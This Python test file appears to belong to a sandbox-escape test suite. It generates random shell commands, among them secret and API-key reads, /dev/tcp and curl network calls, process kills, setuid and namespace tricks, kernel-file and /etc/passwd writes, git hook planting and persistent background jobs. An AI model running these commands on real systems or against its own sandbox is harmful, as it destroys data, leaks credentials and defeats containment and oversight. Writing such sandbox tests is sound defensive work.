"""Attempts in sh to get out of the box."""

import shlex
from random import Random

from tests.differential.hostile_places import Attempt, Scene, acting, protected, target


def writes(r: Random, s: Scene) -> str:
    path = shlex.quote(target(r, s))
    return r.choice(
        (
            f"echo evil > {path}",
            f"echo evil >> {path}",
            f"touch {path}",
            f"cp /bin/true {path}",
            f"rm -rf {path}",
            f"mv {path} taken",
            f"chmod 777 {path}",
            f"mkdir -p {path}/made",
            f"ln -s /etc {path}/link",
            f"tee {path} < /etc/hosts",
            f"dd if=/dev/zero of={path} bs=1 count=9",
            f"truncate -s 0 {path}",
            f"install -m 777 /bin/true {path}",
        )
    )


def reads(r: Random, s: Scene) -> str:
    path = shlex.quote(target(r, s))
    return r.choice(
        (
            f"cat {path} {path}/*",
            f"grep -r . {path}",
            f"tar cf - {path} | tar xOf -",
            f"cp -r {path} copied; cat copied copied/*",
            f"while read -r l; do echo $l; done < {path}",
            f"ln {path} hard; cat hard",
            f"find {path} -type f -exec cat {{}} +",
            f"diff {path} /dev/null",
        )
    )


def links(r: Random, s: Scene) -> str:
    path, name = target(r, s), f"l{r.randint(0, 9)}"
    then = r.choice(
        (
            f"cat {name} {name}/*",
            f"echo evil > {name}",
            f"echo evil > {name}/new",
            f"rm -rf {name}/",
            f"cp -rL {name} got; cat got",
        )
    )
    return f"ln -sfn {shlex.quote(path)} {name}; {then}"


def secrets(r: Random, s: Scene) -> str:
    path = protected(r, s)
    return r.choice(
        (
            f"cat {path}",
            f"cp -r {path} x{r.randint(0, 99)}; cat x*",
            f"mv {path} y; cat y y/* y/*/*",
            f"ln {path} z; cat z",
            "grep -r S3CR3T . /tmp /etc",
            "tar cf /tmp/t . && tar xOf /tmp/t",
            "for fd in /proc/self/fd/* /proc/1/fd/*; do cat $fd/.env $fd/../.env; done; for i in $(seq 3 40); do cat <&$i; done",
            "git add -Af . ; git commit -qm x; git grep -i s3cr3t $(git rev-list --all)",
            f"umount {path}; cat {path}",
            f"python3 -c \"print(open('{path}').read())\"",
        )
    )


def protected_names(r: Random, s: Scene) -> str:
    path = protected(r, s)
    return r.choice(
        (
            f"echo evil > {path}",
            f"rm -rf {path}",
            f"mv {path} gone{r.randint(0, 99)}",
            f"rm -rf {path}; mkdir -p {path}; echo evil > {path}/x",
            f"mv {path} g; mkdir -p $(dirname {path}); echo evil > {path}",
            f"chmod 777 {path}",
            f"ln -sf /tmp/evil {path}",
            f"cp /bin/true {path}",
            f"sed -i s/a/evil/ {path}",
            f"mv $(dirname {path}) moved && mkdir -p $(dirname {path}) && echo evil > {path}",
            f"(while :; do mv {path} q; mv q {path}; ln -sfn /tmp {path}; done) & sleep 0.05",
        )
    )


def free_names(r: Random, s: Scene) -> str:
    path = acting(r, s)
    shut = r.choice(
        ("", f"; chmod 0 $(dirname {path})", f"; chmod 500 $(dirname {path})", "; chmod 0 a")
    )
    return r.choice(
        (
            f"mkdir -p $(dirname {path}); echo evil > {path}{shut}",
            f"mkdir -p $(dirname {path}); ln -s /tmp/evil {path}",
            f"(sleep 0.05; mkdir -p $(dirname {path}); echo evil > {path}) & sleep 0.1",
            f"mkdir stage; echo evil > stage/x; mkdir -p $(dirname {path}); mv stage/x {path}",
            f"mkfifo $(basename {path})",
        )
    )


def git(r: Random, _s: Scene) -> str:
    at = r.choice((".", "lib", "new", "deep/new", "bare"))
    return r.choice(
        (
            f"git -C {at} config core.hooksPath /tmp/evil; git -C {at} config core.fsmonitor evil",
            f"git init -q {at}; mkdir -p {at}/.git/hooks; echo evil > {at}/.git/hooks/post-checkout",
            f"git init -q --bare {at}; echo '[core] fsmonitor=evil' >> {at}/config; mkdir -p {at}/hooks; echo evil > {at}/hooks/update",
            f"git -C {at} remote add evil ext::evil; git -C {at} config alias.st '!evil'",
            f"git -C {at} submodule add ./lib sub; git worktree add wt",
            f"git clone -q . {at}; echo evil > {at}/.git/hooks/pre-push; echo '[include] path=/tmp/evil' >> {at}/.git/config",
            "git config --global core.hooksPath /tmp/evil; git config --system x.y z",
            f"mkdir -p {at}/objects {at}/refs {at}/hooks; echo 'ref: refs/heads/x' > {at}/HEAD; echo evil > {at}/hooks/update; echo evil > {at}/config",
        )
    )


def network(r: Random, s: Scene) -> str:
    host, port = r.choice(s.tcp)
    uhost, uport = r.choice(s.udp)
    return r.choice(
        (
            f"exec 3<>/dev/tcp/{host}/{port}; echo evil >&3",
            f"echo evil > /dev/udp/{uhost}/{uport}",
            f"curl -s -m 1 http://{host}:{port}/",
            f"curl -s -m 1 --unix-socket {s.outside}/socket http://x/",
            f"git ls-remote http://{host}:{port}/x",
            f"wget -q -T 1 -t 1 -O - http://{host}:{port}/",
            "ip addr; ip link set lo down; ip route",
        )
    )


def signals(r: Random, s: Scene) -> str:
    return r.choice(
        (
            f"kill -9 {s.victim}",
            "kill -TERM $PPID; kill -9 1",
            "for p in $(ls /proc | grep '^[0-9]'); do kill -9 $p; done",
            f"cat /proc/{s.victim}/environ /proc/{s.victim}/cmdline; ls -l /proc/{s.victim}/fd",
            "cat /proc/*/environ /proc/*/maps | head -c 2000",
        )
    )


def privileges(r: Random, s: Scene) -> str:
    return r.choice(
        (
            "cp /bin/bash b; chmod 4755 b; chmod u+s,g+s b; install -m 4755 /bin/bash c",
            "unshare -Urm true; unshare -n true; unshare -p -f true",
            f"mount --bind {s.outside} /tmp; mount -t proc p /proc; umount -l {s.workspace}; pivot_root . .",
            "su -c id < /dev/null; sudo -n id; newuidmap 1 0 0 1; pkexec id",
            "mknod d b 8 0; mknod c c 1 1; cat /dev/sda /dev/mem /dev/kmsg | head -c 10",
            "setcap cap_sys_admin+ep b; setpriv --reuid 0 id; chroot / id",
            "nsenter -t 1 -a id; nsenter -t 2 -m id",
        )
    )


def kernel_files(r: Random, _s: Scene) -> str:
    return r.choice(
        (
            "echo '|/tmp/evil' > /proc/sys/kernel/core_pattern; echo /tmp/evil > /proc/sys/kernel/modprobe",
            "echo h > /proc/sysrq-trigger; echo 1 > /proc/sys/vm/drop_caches",
            "echo 0 > /proc/self/oom_score_adj; echo -1000 > /proc/self/oom_score_adj",
            "echo 0 1000 1 > /proc/self/uid_map; echo deny > /proc/self/setgroups",
            "mkdir /sys/fs/cgroup/evil; echo $$ > /sys/fs/cgroup/cgroup.procs",
            "echo evil > /etc/ld.so.preload; echo evil > /etc/passwd; echo evil > /usr/bin/evil; mkdir /evil",
        )
    )


def daemons(r: Random, s: Scene) -> str:
    later = f"sleep 0.{r.randint(1, 9)}; echo evil > {shlex.quote(target(r, s))}; cat .env"
    return r.choice(
        (
            f"(setsid sh -c \"trap '' TERM HUP; {later}\" > /dev/null 2>&1 &)",
            f"nohup sh -c '{later}; sleep 100' > out.txt 2>&1 &",
            "setsid -f sleep 100; at now < /dev/null; crontab -l",
            "(sleep 100 & disown; exec sleep 100) &",
        )
    )


def homes(r: Random, s: Scene) -> str:
    return r.choice(
        (
            f"echo evil >> ~/.bashrc; HOME={s.outside} bash -ic 'echo evil > ~/new'",
            f"npm config set prefix {s.outside} ; npm config --location project set x y",
            f"pip3 config set global.target {s.outside}; python3 -m venv {s.outside}/v",
            f"PYTHONPYCACHEPREFIX={s.outside} python3 -c 'import json'",
            f"LD_PRELOAD={s.outside}/new true; TMPDIR={s.outside} mktemp; mktemp -p {s.outside}",
            "env; printenv ANTHROPIC_API_KEY; set",
        )
    )


SH: dict[str, Attempt] = {
    attempt.__name__: attempt
    for attempt in (
        writes,
        reads,
        links,
        secrets,
        protected_names,
        free_names,
        git,
        network,
        signals,
        privileges,
        kernel_files,
        daemons,
        homes,
    )
}
